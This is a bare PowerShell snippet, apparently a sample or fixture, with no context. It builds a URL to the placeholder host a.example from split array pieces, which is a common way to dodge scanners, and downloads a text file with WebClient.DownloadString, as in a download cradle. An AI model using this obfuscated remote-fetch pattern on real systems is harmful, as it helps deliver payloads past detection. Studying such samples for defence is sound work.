$l=@();$l+='http://';$l+='a.example','/p/x.txt'
$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join $l))
